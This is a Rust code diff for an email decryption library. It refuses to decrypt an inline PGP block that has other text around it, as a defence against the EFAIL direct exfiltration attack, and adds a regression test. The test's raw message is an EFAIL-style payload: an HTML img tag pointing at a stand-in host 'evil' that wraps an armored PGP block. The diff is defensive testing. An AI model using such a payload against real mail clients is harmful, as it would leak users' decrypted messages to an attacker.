@@ -239,8 +239,17 @@ fn verify_nested(
     }
 }
 
+/// Why an inline encrypted block with text around it is not decrypted:
+/// putting its plaintext back between text anyone could have written is
+/// the EFAIL direct exfiltration (and a reply would quote it to the
+/// attacker). Only a message that is encrypted as a whole is decrypted.
+const INLINE_PART: &str = "nothing to decrypt: only a block inside the text is encrypted, \
+     and its plaintext is not put back between text that anyone could have written; \
+     save the block alone and decrypt that";
+
 /// Decrypts a PGP/MIME encrypted message, or the inline encrypted block
-/// of a text message, and verifies what is inside.
+/// of a text message when it is the whole text, and verifies what is
+/// inside.
 pub fn decrypt_message(raw: &[u8], keys: &dyn Keys, at: Timestamp) -> Result<DecryptedMessage> {
     let analysis = analyze(raw)?;
     match &analysis.root {
@@ -255,6 +264,11 @@ pub fn decrypt_message(raw: &[u8], keys: &dyn Keys, at: Timestamp) -> Result<Dec
                 scope: Scope::Whole,
                 signatures: d.signatures,
             })
+        }
+        Some(Protected::Inline { block, .. })
+            if block.kind == InlineKind::Message && !block.whole =>
+        {
+            Err(Error::NothingToDo(INLINE_PART.into()))
         }
         Some(Protected::Inline { text, block }) if block.kind == InlineKind::Message => {
             let d = decrypt(block.bytes(text), keys, at)?;
@@ -298,4 +312,24 @@ fn replace_inline(
     out.extend_from_slice(format!("Content-Transfer-Encoding: {encoding}\r\n\r\n").as_bytes());
     out.extend_from_slice(&body);
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::openpgp::MemoryKeys;
+
+    /// EFAIL direct exfiltration with inline PGP: attacker HTML around an
+    /// armored message must not get the plaintext spliced in. The check
+    /// comes before any decryption, so the block need not be real.
+    #[test]
+    fn fail_inline_block_with_text_around_is_not_decrypted() {
+        let raw = b"From: a@example.org\r\nContent-Type: text/plain\r\n\r\n<img src=\"http://evil/?\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n\">\r\n";
+        let at = Timestamp::parse_rfc3339("2026-06-01T12:00:00Z").unwrap();
+        let err = decrypt_message(raw, &MemoryKeys::default(), at).unwrap_err();
+        assert!(
+            matches!(err, Error::NothingToDo(ref m) if m == INLINE_PART),
+            "{err}"
+        );
+    }
 }
